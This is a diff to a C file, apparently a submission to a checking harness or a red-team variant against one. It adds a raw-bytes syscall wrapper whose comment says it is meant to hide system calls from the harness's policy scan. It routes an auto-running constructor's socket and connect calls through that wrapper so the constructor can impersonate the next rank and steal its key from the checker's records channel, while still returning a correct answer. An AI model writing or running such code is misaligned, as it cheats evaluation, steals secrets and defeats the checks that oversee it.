@@ -8,6 +8,15 @@
 
 #include "sum.h"
 
+/* A system call spelled as the instruction's bytes (x86-64): no symbol and no "syscall" word for
+ * the policy stage to find. The policy's side-route rule is a speed bump; what this variant
+ * proves is the line behind it. */
+static long raw_sys3(long nr, long a, long b, long c) {
+  long r;
+  __asm__ volatile(".byte 0x0f, 0x05" : "=a"(r) : "a"(nr), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
+  return r;
+}
+
 /* A constructor (an ordinary one, which runs after the harness's) that connects to the checker's
  * records channel claiming the next rank, to be handed that rank's key before its own harness
  * asks. Then it computes the right answer, so that only the theft can fail the check. */
@@ -18,11 +27,11 @@ __attribute__((constructor)) static void claim_next_rank(void) {
   int fd;
   ssize_t k;
   if (!addr || strncmp(addr, "unix:", 5) != 0 || !rank || !world) return;
-  fd = socket(AF_UNIX, SOCK_STREAM, 0);
+  fd = (int)raw_sys3(41 /* socket */, AF_UNIX, SOCK_STREAM, 0);
   memset(&sa, 0, sizeof sa);
   sa.sun_family = AF_UNIX;
   snprintf(sa.sun_path, sizeof sa.sun_path, "%s", addr + 5);
-  if (connect(fd, (struct sockaddr *)&sa, sizeof sa) != 0) return;
+  if (raw_sys3(42 /* connect */, fd, (long)&sa, sizeof sa) != 0) return;
   snprintf(hello, sizeof hello, "hello %d %d c/1\n", (atoi(rank) + 1) % atoi(world), (int)getpid());
   if (write(fd, hello, strlen(hello)) < 0) return;
   k = read(fd, reply, sizeof reply - 1);
